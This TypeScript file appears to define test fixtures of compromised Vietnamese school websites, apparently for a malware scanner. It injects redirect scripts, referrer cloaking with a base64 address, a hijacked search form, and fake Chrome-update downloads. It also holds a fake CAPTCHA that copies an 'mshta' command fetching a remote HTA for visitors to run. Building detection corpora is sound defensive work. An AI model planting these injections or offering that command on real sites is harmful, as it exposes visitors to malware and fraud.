import { atEnd, type CorpusSite, inHead, insertBefore, site } from '../corpus-site.ts';
import { schoolPages } from '../school-pages.ts';

export const sites: readonly CorpusSite[] = [
  site(
    'infected',
    'leaves-at-night',
    'a script leads visitors away between ten at night and five in the morning',
    schoolPages('nukeviet', 'Trường THCS Hoàng Động Bến', [], (html) =>
      atEnd(
        html,
        '<script>(function(){var h=new Date().getHours();if(h>=22||h<5){window.location.replace("https://dem-vui-79.example/?s=night")}})();</script>',
      ),
    ),
  ),
  site(
    'infected',
    'one-in-five-is-sent',
    'a script leads away one visitor of five, by chance',
    schoolPages('joomla', 'Trường THPT Bến Kiền', [], (html) =>
      atEnd(
        html,
        '<script>if(Math.random()<0.2){setTimeout(function(){location.href="https://vui-moi-ngay.example/go"},1500)}</script>',
      ),
    ),
  ),
  site(
    'infected',
    'leaves-by-packed-referrer',
    'a script looks at where the visitor came from and goes to a packed address',
    schoolPages('wordpress', 'Trường THPT Thủy Sơn Bến', [], (html) =>
      inHead(
        html,
        `<script>var r=document.referrer;if(/(google|bing|coccoc|zalo|facebook)\\./i.test(r)){document.location.href=atob("${Buffer.from('https://lux68-km.example/vn').toString('base64')}")}</script>`,
      ),
    ),
  ),
  site(
    'infected',
    'search-form-to-strangers',
    'the search box of every page sends the words to a stranger',
    schoolPages('nukeviet', 'Trường Tiểu học Tân Dương Bến', [], (html) =>
      insertBefore(
        html,
        '<div class="contentfix">',
        '<form class="search" role="search" action="https://tim-nhanh.lux68.example/s" method="get"><input name="q" placeholder="Tìm kiếm trong trang"><button>Tìm</button></form>',
      ),
    ),
  ),
  site(
    'infected',
    'checks-that-you-are-human',
    'a false check of humanity copies a command and asks to paste it with Windows + R',
    schoolPages('wordpress', 'Trường THPT Lại Xuân Bến', [], (html) =>
      atEnd(
        html,
        '<div id="vf" style="position:fixed;inset:0;background:#fff;z-index:99999"><h2>Xác minh bạn không phải là robot</h2><button onclick="navigator.clipboard.writeText(atob(\'bXNodGEgaHR0cHM6Ly9jaGVjay5leGFtcGxlL2EuaHRh\'))">Tôi không phải là robot</button><ol><li>Nhấn phím Windows + R</li><li>Nhấn Ctrl + V</li><li>Nhấn Enter để hoàn tất</li></ol></div>',
      ),
    ),
  ),
  site(
    'infected',
    'worker-of-an-advertiser',
    'the home page registers a service worker that loads its code from a push advertiser',
    {
      ...schoolPages('wordpress', 'Trường THCS Thiên Hương Bến', [], (html) =>
        atEnd(
          html,
          '<script>if("serviceWorker" in navigator){navigator.serviceWorker.register("/sw-check-permissions-8a2.js").then(function(){Notification.requestPermission()})}</script>',
        ),
      ),
      '/sw-check-permissions-8a2.js': {
        headers: { 'content-type': 'application/javascript' },
        body: 'self.options={"domain":"push-quangcao.example","zoneId":9355512};self.lary="";importScripts("https://push-quangcao.example/act/files/service-worker.min.js?r=sw");',
      },
    },
  ),
  site(
    'infected',
    'old-browser-download',
    'a cover says that the browser is too old and offers a program from the upload folder',
    {
      ...schoolPages('wordpress', 'Trường THCS Hợp Thành Bến', [], (html) =>
        atEnd(
          html,
          '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:100000"><h1>Trình duyệt Chrome của bạn đã lỗi thời</h1><p>Vui lòng cập nhật để tiếp tục xem trang.</p><a href="/wp-content/uploads/2026/03/ChromeUpdate.exe" download>Cập nhật Chrome</a></div>',
        ),
      ),
      '/wp-content/uploads/2026/03/ChromeUpdate.exe': {
        headers: { 'content-type': 'application/octet-stream' },
        body: 'MZ not a program',
      },
    },
  ),
  site(
    'infected',
    'chance-under-a-name',
    'a script leads away one visitor of five, after it has thrown the dice and greeted',
    schoolPages('nukeviet', 'Trường THCS Bến Then', [], (html) =>
      atEnd(
        html,
        '<script>var r=Math.random(),h=new Date().getHours();if(h<12){document.title="Chào buổi sáng"}if(r<0.2){location.href="https://vui-moi-ngay.example/go"}</script>',
      ),
    ),
  ),
  site(
    'infected',
    'leaves-unless-it-is-day',
    'a script ends by day, and leads visitors away at night',
    schoolPages('joomla', 'Trường THPT Bến Gót', [], (html) =>
      atEnd(
        html,
        '<script>(function(){var h=new Date().getHours();if(5<h&&h<22){document.title="Xin chào";return}location.href="https://dem-vui-79.example/"})()</script>',
      ),
    ),
  ),
  site(
    'infected',
    'old-browser-archive',
    'a cover says that the browser is too old and offers an archive from the upload folder',
    schoolPages('wordpress', 'Trường THCS Bến Tượng', [], (html) =>
      atEnd(
        html,
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff"><h1>Trình duyệt Chrome của bạn đã lỗi thời</h1><p>Vui lòng cập nhật.</p><a href="/wp-content/uploads/2026/03/Chrome.Update.zip" download>Tải về</a></div>',
      ),
    ),
  ),
  site(
    'infected',
    'strangers-as-read-aloud',
    'links to strangers in a box that calls itself one for reading aloud',
    schoolPages('wordpress', 'Trường Tiểu học Bến Tắm', [], (html) =>
      atEnd(
        html,
        `<div class="visually-hidden" style="position:absolute;left:-9999px">${Array.from({ length: 12 }, (_, index) => `<a href="https://doi-tac-${String(index)}.com/">đối tác ${String(index)}</a>`).join(' ')}</div>`,
      ),
    ),
  ),
];
